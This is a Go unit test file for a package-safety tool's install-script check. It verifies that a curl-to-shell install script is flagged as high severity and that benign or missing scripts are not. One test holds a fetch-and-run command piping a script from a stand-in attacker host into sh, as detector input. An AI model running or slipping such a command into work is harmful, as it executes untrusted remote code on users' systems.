package checks

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/safe-pkgs/safe-pkgs/internal/types"
)

func TestInstallScriptCheck_FlagsCurlPipeShell(t *testing.T) {
	findings, err := InstallScriptCheck{}.Run(context.Background(), &CheckExecutionContext{
		PackageName: "demo",
		ResolvedVersion: &types.PackageVersion{
			Version:        "1.0.0",
			InstallScripts: []string{"curl https://evil.example/install.sh | sh"},
		},
	})
	assert.NoError(t, err)
	assert.Len(t, findings, 1)
	assert.Equal(t, types.SeverityHigh, findings[0].Severity)
}

func TestInstallScriptCheck_BenignScriptHasNoFinding(t *testing.T) {
	findings, err := InstallScriptCheck{}.Run(context.Background(), &CheckExecutionContext{
		ResolvedVersion: &types.PackageVersion{
			Version:        "1.0.0",
			InstallScripts: []string{"node-gyp rebuild"},
		},
	})
	assert.NoError(t, err)
	assert.Empty(t, findings)
}

func TestInstallScriptCheck_NoScriptsHasNoFinding(t *testing.T) {
	findings, err := InstallScriptCheck{}.Run(context.Background(), &CheckExecutionContext{
		ResolvedVersion: &types.PackageVersion{Version: "1.0.0"},
	})
	assert.NoError(t, err)
	assert.Empty(t, findings)
}
